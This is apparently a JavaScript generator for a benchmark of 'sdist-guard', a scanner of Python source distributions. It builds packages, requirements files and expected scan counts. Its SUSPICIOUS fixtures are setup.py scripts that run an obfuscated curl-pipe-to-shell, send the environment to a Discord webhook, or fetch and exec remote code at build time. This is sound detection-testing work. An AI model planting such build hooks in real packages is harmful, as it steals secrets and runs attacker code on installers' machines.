// A generated project for the benchmark: N pinned requirements (as pip-compile writes them, hashed
// as with --generate-hashes when asked) over a package index where about 70% of the projects
// publish wheels, each with its core metadata, 25% only an sdist with an ordinary build script, 5%
// only an sdist whose build script does what malware does, and one sdist is 60 MB. Everything is
// deterministic, so two runs with the same N scan the same bytes.

import { createHash, randomBytes } from 'node:crypto';
import { createWriteStream, existsSync, mkdirSync, readFileSync, renameSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { finished } from 'node:stream/promises';
import { createGzip, gzipSync } from 'node:zlib';

const enc = new TextEncoder();
const MiB = 1024 * 1024;
/** The sizes of the big sdists, in MiB: given to the first ordinary sdist-only projects. */
export const BIG_SDIST_MIB = [60];
/** Bumped when the big sdists' layout changes, so stale ones in the temp dir are rebuilt. */
const BIG_LAYOUT = 1;

export function sha256(data) {
  return createHash('sha256').update(data).digest('hex');
}

// ------------------------------------------------------------------ tar

function writeString(buf, offset, length, value) {
  buf.set(enc.encode(value).subarray(0, length), offset);
}

function writeOctal(buf, offset, length, value) {
  writeString(buf, offset, length, value.toString(8).padStart(length - 1, '0') + '\0');
}

function tarHeader(name, size, type = '0') {
  const h = new Uint8Array(512);
  writeString(h, 0, 100, name);
  writeOctal(h, 100, 8, type === '5' ? 0o755 : 0o644);
  writeOctal(h, 108, 8, 0);
  writeOctal(h, 116, 8, 0);
  writeOctal(h, 124, 12, size);
  writeOctal(h, 136, 12, 1_700_000_000);
  h.fill(0x20, 148, 156);
  writeString(h, 156, 1, type);
  writeString(h, 257, 6, 'ustar\0');
  writeString(h, 263, 2, '00');
  let sum = 0;
  for (const b of h) sum += b;
  writeString(h, 148, 8, sum.toString(8).padStart(6, '0') + '\0 ');
  return h;
}

function padding(size) {
  const rest = size % 512;
  return rest === 0 ? new Uint8Array(0) : new Uint8Array(512 - rest);
}

/** A small sdist, `name-version/` leading directory, as setuptools' sdist writes it. */
export function makeSdist(dirName, files) {
  const parts = [tarHeader(`${dirName}/`, 0, '5')];
  for (const [path, content] of Object.entries(files)) {
    const data = typeof content === 'string' ? enc.encode(content) : content;
    parts.push(tarHeader(`${dirName}/${path}`, data.length), data, padding(data.length));
  }
  parts.push(new Uint8Array(1024));
  return gzipSync(Buffer.concat(parts), { level: 6 });
}

/**
 * A big sdist written straight to disk: its build files first (where sdist tools put them), then
 * incompressible data files making up `mib` MiB. Reused from `dir` when already there.
 */
export async function bigSdist(dir, dirName, mib, files) {
  mkdirSync(dir, { recursive: true });
  // the size is in the name: a file kept from a run that gave this project another size is not it
  const path = join(dir, `${dirName}.${mib}MiB.layout${BIG_LAYOUT}.tar.gz`);
  const meta = `${path}.sha256`;
  if (existsSync(path) && existsSync(meta)) return { path, sha256: readFileSync(meta, 'utf8').trim(), size: statSync(path).size };
  const temp = `${path}.${process.pid}.tmp`;
  const gzip = createGzip({ level: 1 });
  const out = createWriteStream(temp);
  const hash = createHash('sha256');
  let size = 0;
  gzip.on('data', (chunk) => {
    hash.update(chunk);
    size += chunk.length;
  });
  gzip.pipe(out);
  const write = (chunk) => new Promise((resolve) => (gzip.write(chunk) ? resolve() : gzip.once('drain', resolve)));
  await write(tarHeader(`${dirName}/`, 0, '5'));
  for (const [name, content] of Object.entries(files)) {
    const data = enc.encode(content);
    await write(tarHeader(`${dirName}/${name}`, data.length));
    await write(data);
    await write(padding(data.length));
  }
  const blobs = Math.max(1, Math.round(mib / 10));
  const blobSize = Math.floor((mib * MiB) / blobs);
  for (let b = 0; b < blobs; b++) {
    await write(tarHeader(`${dirName}/data/blob-${b}.bin`, blobSize));
    for (let left = blobSize; left > 0; left -= MiB) await write(randomBytes(Math.min(MiB, left)));
    await write(padding(blobSize));
  }
  await write(new Uint8Array(1024));
  gzip.end();
  await finished(out);
  renameSync(temp, path);
  const digest = hash.digest('hex');
  writeFileSync(meta, digest + '\n');
  return { path, sha256: digest, size };
}

/** A wheel's bytes do not matter (its metadata is served beside it, as PyPI does), only that they hash. */
function wheelBytes(filename) {
  return enc.encode(`PK wheel placeholder for ${filename}\n`.repeat(4));
}

/** A wheel's core metadata: some wheels require the next project, as real ones require others. */
function wheelMetadata(name, version, requires = []) {
  return enc.encode(
    `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${name} for the sdist-guard benchmark\nRequires-Python: >=3.8\n${requires.map((r) => `Requires-Dist: ${r}\n`).join('')}`,
  );
}

// ------------------------------------------------------------------ build scripts

function pkgInfo(name, version) {
  return `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\nSummary: ${name} for the sdist-guard benchmark\nLicense: MIT\nRequires-Python: >=3.8\n`;
}

const moduleBody = (name) =>
  Array.from(
    { length: 40 },
    (_, i) => `\ndef helper_${i}(value, scale=${i + 1}):\n    """Scales ${name} values."""\n    return [v * scale for v in value if v is not None]\n`,
  ).join('');

/** A classic setuptools setup.py: README, version by regex from the package, find_packages. */
export function typicalSetupPy(name) {
  const mod = name.replace(/-/g, '_');
  return `import io
import os
import re
from setuptools import setup, find_packages

HERE = os.path.abspath(os.path.dirname(__file__))


def read(*parts):
    with io.open(os.path.join(HERE, *parts), encoding="utf-8") as f:
        return f.read()


def find_version(*parts):
    match = re.search(r"^__version__ = ['\\"]([^'\\"]*)['\\"]", read(*parts), re.M)
    if match:
        return match.group(1)
    raise RuntimeError("Unable to find version string.")


setup(
    name="${name}",
    version=find_version("${mod}", "__init__.py"),
    description="A package for the benchmark",
    long_description=read("README.md"),
    long_description_content_type="text/markdown",
    author="Bench Author",
    author_email="bench@example.org",
    url="https://example.org/${name}",
    license="MIT",
    packages=find_packages(exclude=["tests", "tests.*"]),
    install_requires=["requests>=2.20", "click>=7"],
    extras_require={"test": ["pytest>=6", "pytest-cov"]},
    python_requires=">=3.8",
    entry_points={"console_scripts": ["${name}=${mod}.cli:main"]},
    classifiers=[
        "Programming Language :: Python :: 3",
        "License :: OSI Approved :: MIT License",
        "Operating System :: OS Independent",
    ],
)
`;
}

function extensionSetupPy(name) {
  const mod = name.replace(/-/g, '_');
  return `import os
import sys
import platform
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

extra_compile_args = ["-O3"] if sys.platform != "win32" else ["/O2"]
if platform.machine() in ("x86_64", "AMD64"):
    extra_compile_args.append("-msse4.2" if sys.platform != "win32" else "/arch:AVX")


class OptionalBuildExt(build_ext):
    def run(self):
        try:
            build_ext.run(self)
        except Exception as exc:
            print("warning: the C speedups could not be built: %s" % exc)


setup(
    name="${name}",
    version="1.2.0",
    packages=["${mod}"],
    ext_modules=[Extension("${mod}._speedups", ["src/speedups.c"], extra_compile_args=extra_compile_args)],
    cmdclass={"build_ext": OptionalBuildExt},
    zip_safe=False,
)
`;
}

function execVersionSetupPy(name) {
  const mod = name.replace(/-/g, '_');
  return `from setuptools import setup
from setuptools.command.build_py import build_py

about = {}
with open("${mod}/__about__.py") as f:
    exec(f.read(), about)


class BuildPy(build_py):
    def run(self):
        self.announce("building ${name} %s" % about["__version__"])
        build_py.run(self)


setup(
    name="${name}",
    version=about["__version__"],
    packages=["${mod}"],
    cmdclass={"build_py": BuildPy},
)
`;
}

/** About 300 lines of the kind of setup.py large projects carry: helpers, probes, long lists. */
export function longSetupPy(name) {
  const mod = name.replace(/-/g, '_');
  const lines = [typicalSetupPy(name).replace(/setup\(\n[\s\S]*$/, '')];
  lines.push('import subprocess', 'import sysconfig', 'from setuptools import Extension', 'from setuptools.command.build_ext import build_ext', '');
  lines.push('def pkg_config(*args):', '    try:', '        out = subprocess.check_output(["pkg-config"] + list(args))', '    except (OSError, subprocess.CalledProcessError):', '        return []', '    return out.decode().split()', '');
  for (let i = 0; i < 24; i++) {
    lines.push(
      `def configure_part_${i}(options):`,
      `    """Options for the ${i}th optional component."""`,
      `    flag = os.environ.get("${mod.toUpperCase()}_PART_${i}", "auto")`,
      '    if flag == "off":',
      '        return options',
      `    options.setdefault("define_macros", []).append(("HAVE_PART_${i}", "1"))`,
      `    options.setdefault("libraries", []).extend(pkg_config("--libs-only-l", "part${i}"))`,
      '    return options',
      '',
    );
  }
  lines.push('EXTENSIONS = []', `for i, src in enumerate(["src/a.c", "src/b.c", "src/c.c", "src/d.c"]):`);
  lines.push(`    options = {"include_dirs": [sysconfig.get_paths()["include"]]}`);
  for (let i = 0; i < 24; i++) lines.push(`    options = configure_part_${i}(options)`);
  lines.push(`    EXTENSIONS.append(Extension("${mod}._ext%d" % i, [src], **options))`, '');
  lines.push('CLASSIFIERS = [');
  for (let i = 0; i < 12; i++) lines.push(`    "Programming Language :: Python :: 3.${i + 2}",`);
  lines.push(']', '');
  lines.push('class BuildExt(build_ext):', '    def build_extensions(self):', '        for ext in self.extensions:', '            ext.extra_compile_args = ["-O2"]', '        build_ext.build_extensions(self)', '');
  lines.push(
    'setup(',
    `    name="${name}",`,
    `    version=find_version("${mod}", "__init__.py"),`,
    '    long_description=read("README.md"),',
    '    packages=find_packages(exclude=["tests"]),',
    '    ext_modules=EXTENSIONS,',
    '    cmdclass={"build_ext": BuildExt},',
    '    classifiers=CLASSIFIERS,',
    ')',
  );
  const text = lines.join('\n') + '\n';
  return text;
}

const SUSPICIOUS = [
  (name) => `import os, subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="${name}", version="1.2.0")
`,
  (name) => `import os, socket, requests
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        data = {"host": socket.gethostname(), "user": os.getlogin(), "env": dict(os.environ)}
        requests.post("https://discord.com/api/webhooks/1234567890/AbCdEfGhIjKlMnOp", json=data)
        install.run(self)

setup(name="${name}", version="1.2.0", cmdclass={"install": PostInstall})
`,
  (name) => `import urllib.request
from setuptools import setup
payload = urllib.request.urlopen("http://203.0.113.9/stage2.py").read()
exec(payload)
setup(name="${name}", version="1.2.0")
`,
];

function ordinaryFiles(name, variant) {
  const mod = name.replace(/-/g, '_');
  const files = {
    'PKG-INFO': pkgInfo(name, '1.2.0'),
    'README.md': `# ${name}\n\nA package generated for the sdist-guard benchmark.\n`,
    LICENSE: 'MIT License\n\nPermission is hereby granted, free of charge, to any person obtaining a copy...\n',
    [`${mod}/__init__.py`]: `__version__ = "1.2.0"\n`,
    [`${mod}/core.py`]: `"""Core of ${name}."""\n${moduleBody(name)}`,
    [`${mod}/cli.py`]: 'import sys\n\ndef main():\n    print(sys.argv)\n',
    'tests/test_core.py': `from ${mod} import core\n\ndef test_helper():\n    assert core.helper_1([1]) == [2]\n`,
    'docs/index.rst': `${name}\n${'='.repeat(name.length)}\n\nDocumentation.\n`,
  };
  switch (variant % 5) {
    case 0:
      files['setup.py'] = typicalSetupPy(name);
      files['setup.cfg'] = '[metadata]\nlicense_files = LICENSE\n\n[bdist_wheel]\nuniversal = 0\n';
      break;
    case 1:
      files['setup.py'] = extensionSetupPy(name);
      files['src/speedups.c'] = '#include <Python.h>\nstatic PyObject* f(PyObject* s, PyObject* a) { Py_RETURN_NONE; }\n';
      files['pyproject.toml'] = '[build-system]\nrequires = ["setuptools>=61", "wheel"]\nbuild-backend = "setuptools.build_meta"\n';
      break;
    case 2:
      files['pyproject.toml'] = `[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n\n[project]\nname = "${name}"\nversion = "1.2.0"\ndependencies = ["attrs>=21"]\n`;
      files['setup.cfg'] = `[options]\npackages = find:\ninstall_requires =\n    attrs>=21\n`;
      break;
    case 3:
      files['pyproject.toml'] = `[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n\n[project]\nname = "${name}"\nversion = "1.2.0"\n\n[tool.hatch.build.targets.wheel]\npackages = ["${mod}"]\n`;
      break;
    default:
      files['setup.py'] = execVersionSetupPy(name);
      files[`${mod}/__about__.py`] = '__version__ = "1.2.0"\n__author__ = "Bench Author"\n';
  }
  return files;
}

// ------------------------------------------------------------------ the project

/** What kind of project package i is: spread evenly over the range rather than in blocks. */
function kindOf(i) {
  const slot = (i * 37) % 100;
  return slot < 70 ? 'wheel' : slot < 95 ? 'sdist' : 'suspicious';
}

const VERSIONS = ['1.0.0', '1.1.0', '1.2.0'];

/** A file the page lists but nobody should fetch: an older release. */
function phantom(filename) {
  return { filename, sha256: sha256(`phantom ${filename}`), size: 1000 };
}

/**
 * The project: `projects` maps a normalized name to its files (served ones carry `data` or
 * `path`), `requirements` is the text of requirements.txt (`wheelRequirements` its wheel-only
 * part), `expected` the statuses a correct scan reports, `unavoidable` the requests no cache-less
 * scan can skip: one page per project, one core-metadata file per chosen wheel (not read when the
 * file is in hash-checking form: then it lists everything pip installs), one download per sdist.
 */
export async function generateProject(n, { bigDir, big = true, hashes = false } = {}) {
  const projects = new Map();
  const requirements = [];
  const wheelRequirements = [];
  const expected = { wheel: 0, sdist: 0, suspicious: 0 };
  let bigLeft = big ? [...BIG_SDIST_MIB] : [];
  let sdistDownloads = 0;
  // what pip installs to build the sdists that get built (sdist-guard checks those too)
  const buildTools = new Set();
  // what the sdists' build files declare they need at run time (pip installs those too)
  const pulled = new Set();
  const pulls = (files) => {
    for (const text of Object.values(files)) for (const m of text.matchAll(/"?\b(requests|click|attrs)>=/g)) pulled.add(m[1]);
  };
  const needs = (pyproject) => {
    if (pyproject === undefined) buildTools.add('setuptools');
    else for (const m of pyproject.matchAll(/"(setuptools|wheel|hatchling)[^"]*"/g)) buildTools.add(m[1]);
  };
  for (let i = 0; i < n; i++) {
    const name = `bench-pkg-${String(i).padStart(5, '0')}`;
    const mod = name.replace(/-/g, '_');
    const kind = kindOf(i);
    const files = [];
    for (const version of VERSIONS) {
      const current = version === '1.2.0';
      const sdistName = `${mod}-${version}.tar.gz`;
      if (kind === 'wheel') {
        const wheelName = `${mod}-${version}-py3-none-any.whl`;
        if (current) {
          const data = wheelBytes(wheelName);
          // the next project with wheels: the wheel-only part of the index installs on its own
          let j = i + 1;
          while (j < n && kindOf(j) !== 'wheel') j++;
          const next = j < n ? [`bench-pkg-${String(j).padStart(5, '0')}>=1.0`] : [];
          const metadata = wheelMetadata(name, version, i % 3 === 0 ? next : []);
          files.push({ filename: wheelName, data, sha256: sha256(data), size: data.length, metadata });
        } else files.push(phantom(wheelName));
      }
      if (!current) {
        files.push(phantom(sdistName));
        continue;
      }
      if (kind === 'suspicious') {
        const data = makeSdist(`${mod}-${version}`, { 'PKG-INFO': pkgInfo(name, version), 'setup.py': SUSPICIOUS[i % SUSPICIOUS.length](name) });
        files.push({ filename: sdistName, data, sha256: sha256(data), size: data.length });
        needs(undefined);
      } else if (kind === 'sdist' && bigLeft.length > 0) {
        const mib = bigLeft.shift();
        const buildFiles = {
          'PKG-INFO': pkgInfo(name, version),
          'setup.py': typicalSetupPy(name),
          'pyproject.toml': '[build-system]\nrequires = ["setuptools>=61"]\nbuild-backend = "setuptools.build_meta"\n',
          [`${mod}/__init__.py`]: `__version__ = "${version}"\n`,
          'README.md': `# ${name}\n`,
        };
        const meta = await bigSdist(bigDir, `${mod}-${version}`, mib, buildFiles);
        pulls(buildFiles);
        files.push({ filename: sdistName, path: meta.path, sha256: meta.sha256, size: meta.size });
        needs('"setuptools>=61"');
      } else {
        // A project with wheels ships an sdist too; the scan must not fetch it.
        const sdistFiles = ordinaryFiles(name, i);
        const data = makeSdist(`${mod}-${version}`, sdistFiles);
        files.push({ filename: sdistName, data, sha256: sha256(data), size: data.length });
        if (kind === 'sdist') {
          needs(sdistFiles['pyproject.toml']);
          pulls(sdistFiles);
        }
      }
    }
    projects.set(name, files);
    expected[kind]++;
    if (kind !== 'wheel') sdistDownloads++;
    else wheelRequirements.push(`${name}==1.2.0`);
    const pinned = files.filter((f) => (f.data || f.path) && f.filename.includes('-1.2.0'));
    requirements.push(hashes ? `${name}==1.2.0 \\\n${pinned.map((f) => `    --hash=sha256:${f.sha256}`).join(' \\\n')}` : `${name}==1.2.0`);
  }
  // a requirements file in hash-checking form lists everything: nothing beyond it is resolved
  if (hashes) pulled.clear();
  for (const dep of pulled) {
    const wheelName = `${dep}-99.0-py3-none-any.whl`;
    const data = wheelBytes(wheelName);
    projects.set(dep, [{ filename: wheelName, data, sha256: sha256(data), size: data.length, metadata: wheelMetadata(dep, '99.0') }]);
    expected.wheel++;
  }
  for (const tool of buildTools) {
    const wheelName = `${tool}-99.0-py3-none-any.whl`;
    const data = wheelBytes(wheelName);
    projects.set(tool, [{ filename: wheelName, data, sha256: sha256(data), size: data.length, metadata: wheelMetadata(tool, '99.0') }]);
    expected.wheel++;
  }
  return {
    projects,
    requirements: `# generated for the sdist-guard benchmark: ${n} packages\n${requirements.join('\n')}\n`,
    wheelRequirements: `# the wheel-only part of the sdist-guard benchmark: ${wheelRequirements.length} packages\n${wheelRequirements.join('\n')}\n`,
    expected,
    // what the sdists pull in and the build tools are resolved too: a page and a metadata file each
    unavoidable: {
      pages: n + pulled.size + buildTools.size,
      metadata: (hashes ? 0 : expected.wheel - buildTools.size) + buildTools.size,
      downloads: sdistDownloads,
    },
  };
}
